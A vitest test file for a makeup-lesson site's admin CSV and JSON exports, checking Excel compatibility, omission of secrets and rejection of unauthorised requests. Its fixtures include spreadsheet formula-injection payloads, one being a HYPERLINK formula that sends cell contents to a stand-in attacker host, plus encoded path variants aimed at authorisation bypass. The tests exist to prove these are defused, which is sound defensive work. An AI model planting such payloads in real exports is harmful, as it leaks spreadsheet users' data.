import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api } from '#contract/api.ts';
import { LESSON_QUESTIONS } from '#contract/lesson-questions.ts';
import { logIn, withCookie } from '../test/admin-login.ts';
import { lessonForm } from '../test/lesson-form.ts';
import { rawRequest } from '../test/raw-request.ts';
import { startTestServer, TEST_ADMIN_KEY, type TestServer } from '../test/test-server.ts';
import { EXPORTED_COLLECTIONS } from './exports.ts';

/** Today in Pacific time, as the downloaded file's name carries it. */
const pacificToday = () =>
  new Intl.DateTimeFormat('en-CA', { timeZone: 'America/Los_Angeles', dateStyle: 'short' }).format(new Date());

describe('her data, downloaded', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer({ seed: true, env: { LESSON_LIMIT: '1000' } });
    const submit = async (extra: Record<string, unknown>) =>
      expect(
        (await server.request('/api/lesson-submissions', { method: 'POST', json: lessonForm(extra) })).status,
      ).toBe(201);
    await submit({ name: 'Zoë Ñúñez', email: 'zoe@example.com', additionalInfo: 'Très bien, ça va! 💄' });
    await submit({
      name: '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
      phone: '+1 (916) 555-0100',
      mainGoal: 'other',
      otherGoal: '-2+3',
      wearMakeup: '@SUM(1,2)',
      struggles: 'Line one\nLine two, with "quotes"',
      focusAreas: ['Eyebrows', 'other'],
      otherFocusArea: 'Mature skin',
    });
    // Known arrival times: one in summer (PDT, UTC-7) and one in winter (PST, UTC-8) that is still the day before.
    await server.store.update((data) => {
      data.lessonSubmissions[0]!.createdAt = '2025-01-15T03:05:00.000Z';
      data.lessonSubmissions[1]!.createdAt = '2025-07-04T18:30:00.000Z';
      // The form trims answers, so a leading tab or CR only comes from an older record or a hand-edited file.
      data.lessonSubmissions[1]!.usualLook = '\tTabbed';
      data.lessonSubmissions[1]!.currentProducts = '\rReturned';
    });
  });
  afterAll(() => server.close());

  it('gives the questionnaires as a CSV Excel opens with accents intact, every question a column, newest first', async () => {
    const response = await rawRequest(server.url + api.adminExports.lessonSubmissionsCsv.path(), {
      'x-admin-key': TEST_ADMIN_KEY,
    });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="lesson-forms-${pacificToday()}.csv"`);
    expect(response.headers['cache-control']).toBe('no-store');
    // A byte-order mark first (Excel reads the file as UTF-8 only with it), and CRLF line ends.
    expect([...response.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = response.body.toString('utf8');
    // Three records (header and two rows), each ended by CRLF; the line break inside an answer stays inside its cell.
    expect(text.split('\r\n')).toHaveLength(4);
    expect(text.endsWith('\r\n')).toBe(true);

    const rows = parse(response.body, { bom: true, record_delimiter: '\r\n' }) as string[][];
    expect(rows[0]).toEqual(['Submitted (Pacific time)', ...Object.values(LESSON_QUESTIONS)]);
    expect(rows).toHaveLength(3);
    const [header, hostile, zoe] = rows as [string[], string[], string[]];
    const cell = (row: string[], question: string) => row[header.indexOf(question)];

    expect(cell(zoe, 'Submitted (Pacific time)')).toBe('2025-01-14 19:05');
    expect(cell(zoe, LESSON_QUESTIONS.name)).toBe('Zoë Ñúñez');
    expect(cell(zoe, LESSON_QUESTIONS.additionalInfo)).toBe('Très bien, ça va! 💄');
    // Choices in the words the student picked them by.
    expect(cell(zoe, LESSON_QUESTIONS.lessonPurpose)).toBe('Self Application');
    expect(cell(zoe, LESSON_QUESTIONS.kitPreference)).toBe('A combination of both');
    expect(cell(zoe, LESSON_QUESTIONS.focusAreas)).toBe('Skin prep; Eyebrows; Other');

    // Anything a spreadsheet would run as a formula is shown as text.
    expect(cell(hostile, 'Submitted (Pacific time)')).toBe('2025-07-04 11:30');
    expect(cell(hostile, LESSON_QUESTIONS.name)).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click me")`);
    expect(cell(hostile, LESSON_QUESTIONS.phone)).toBe("'+1 (916) 555-0100");
    expect(cell(hostile, LESSON_QUESTIONS.otherGoal)).toBe("'-2+3");
    expect(cell(hostile, LESSON_QUESTIONS.wearMakeup)).toBe("'@SUM(1,2)");
    expect(cell(hostile, LESSON_QUESTIONS.usualLook)).toBe("'\tTabbed");
    expect(cell(hostile, LESSON_QUESTIONS.currentProducts)).toBe("'\rReturned");
    expect(cell(hostile, LESSON_QUESTIONS.struggles)).toBe('Line one\nLine two, with "quotes"');
    expect(cell(hostile, LESSON_QUESTIONS.mainGoal)).toBe('Other');
    expect(cell(hostile, LESSON_QUESTIONS.focusAreas)).toBe('Eyebrows; Other');
    for (const row of rows) expect(row).toHaveLength(header.length);
  });

  it('keeps a line break inside its cell, and runs no formula from the line after it', async () => {
    // A spreadsheet that reads each line of a cell on its own would run these, so every line start is neutralised.
    const answers = {
      additionalInfo: 'ok\n=1+1',
      struggles: 'first\r\n+SUM(1,2)',
      usualLook: 'Natural\r@A1',
      currentProducts: 'Primer\n\n-2+3\n\tTabbed\nSerum = glow',
    };
    const submitted = await server.request('/api/lesson-submissions', {
      method: 'POST',
      json: lessonForm({ name: 'Nia Newline', ...answers }),
    });
    expect(submitted.status).toBe(201);
    const stored = server.store.data.lessonSubmissions.at(-1)!;
    await server.store.update((data) => {
      // The newest of all, so the first row.
      data.lessonSubmissions.at(-1)!.createdAt = '2025-08-01T18:00:00.000Z';
    });

    const response = await rawRequest(server.url + api.adminExports.lessonSubmissionsCsv.path(), {
      'x-admin-key': TEST_ADMIN_KEY,
    });
    expect(response.status).toBe(200);
    // As a spreadsheet reads it: any line break outside quotes ends a row.
    const rows = parse(response.body, {
      bom: true,
      record_delimiter: ['\r\n', '\n', '\r'],
      relax_column_count: true,
    }) as string[][];
    // Exactly the header and the three submissions, every row as wide as the header.
    expect(rows).toHaveLength(1 + server.store.data.lessonSubmissions.length);
    const [header, newline] = rows as [string[], string[]];
    for (const row of rows) expect(row).toHaveLength(header.length);
    const cell = (question: string) => newline[header.indexOf(question)];
    expect(cell(LESSON_QUESTIONS.name)).toBe('Nia Newline');
    expect(cell(LESSON_QUESTIONS.additionalInfo)).toBe(`ok\n'=1+1`);
    expect(cell(LESSON_QUESTIONS.struggles)).toBe(`first\r\n'+SUM(1,2)`);
    expect(cell(LESSON_QUESTIONS.usualLook)).toBe(`Natural\r'@A1`);
    expect(cell(LESSON_QUESTIONS.currentProducts)).toBe(`Primer\n\n'-2+3\n'\tTabbed\nSerum = glow`);
    // The stored answers are as she was sent them: only the download is made safe.
    expect(stored.additionalInfo).toBe(answers.additionalInfo);

    // Read as any spreadsheet might: no line of any cell starts like a formula, and every CR or LF is quoted.
    for (const row of rows) {
      for (const value of row) {
        for (const line of value.split(/\r\n|\r|\n/)) expect(line, JSON.stringify(value)).not.toMatch(/^[=+\-@\t]/);
      }
    }
    const text = response.body.toString('utf8');
    const unquoted = text.replace(/"(?:[^"]|"")*"/g, '');
    expect(unquoted.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('gives everything she entered as JSON, with PINs, and never sessions, passkeys, push keys or the outbox', async () => {
    // Things that must stay out, all present in the data.
    await server.store.update((data) => {
      data.pushSubscriptions.push({
        id: 'p1',
        endpoint: 'https://push.example/secret-endpoint',
        p256dh: 'secret-p256dh',
        auth: 'secret-auth',
        device: 'Phone',
        createdAt: new Date().toISOString(),
      });
      data.alertOutbox.push({
        id: 'o1',
        submissionId: 'x',
        createdAt: new Date().toISOString(),
        failedAttempts: 0,
        nextAttemptAt: new Date().toISOString(),
        lastError: 'secret-outbox-error',
        failedAt: null,
      });
    });
    const schedule = await server.request('/api/admin/wedding-schedules', {
      method: 'POST',
      admin: true,
      json: { clientName: 'Ana Example', pin: '482913', weddingDate: '2026-06-20', isActive: true },
    });
    expect(schedule.status).toBe(201);
    const { cookie } = await logIn(server);
    const sessionHash = server.store.data.adminSessions[0]!.tokenHash;

    const response = await server.request(api.adminExports.siteJson.path(), withCookie(cookie));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="site-${pacificToday()}.json"`);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const text = await response.text();
    const site = JSON.parse(text);
    expect(Object.keys(site)).toEqual(['exportedAt', 'version', ...EXPORTED_COLLECTIONS]);
    expect(site.siteSettings).toEqual(JSON.parse(JSON.stringify(server.store.data.siteSettings)));
    expect(site.faqs.length).toBeGreaterThan(0);
    expect(site.lessonSubmissions.map((item: { name: string }) => item.name)).toContain('Zoë Ñúñez');
    expect(site.weddingSchedules).toEqual([expect.objectContaining({ clientName: 'Ana Example', pin: '482913' })]);
    for (const secret of ['secret-endpoint', 'secret-p256dh', 'secret-auth', 'secret-outbox-error', sessionHash]) {
      expect(text).not.toContain(secret);
    }
    for (const left of ['adminSessions', 'passkeys', 'pushSubscriptions', 'alertOutbox', 'seededAt']) {
      expect(site).not.toHaveProperty(left);
    }
  });

  it('gives nothing without the key or a session, in any spelling of the path', async () => {
    const spellings = [
      api.adminExports.lessonSubmissionsCsv.path(),
      api.adminExports.siteJson.path(),
      '/API/ADMIN/EXPORT/site.json',
      '/Api/Admin/Export/Lesson-Submissions.CSV',
      '/%61pi/admin/export/site.json',
      '/api/%61dmin/export/lesson-submissions.csv',
      '/api/admin/export/site%2Ejson',
      '/api//admin/export/site.json',
    ];
    for (const path of spellings) {
      for (const headers of [{}, { 'x-admin-key': 'wrong-key-wrong-key-123' }] as Record<string, string>[]) {
        const response = await rawRequest(server.url + path, headers);
        expect(response.status, `${path} ${JSON.stringify(headers)}`).toBe(401);
        expect(response.body.toString()).not.toContain('Zoë');
      }
    }
    // With the key, only the exact spelling is a route.
    for (const path of spellings.slice(2)) {
      expect((await rawRequest(server.url + path, { 'x-admin-key': TEST_ADMIN_KEY })).status, path).toBe(404);
    }
  });
});
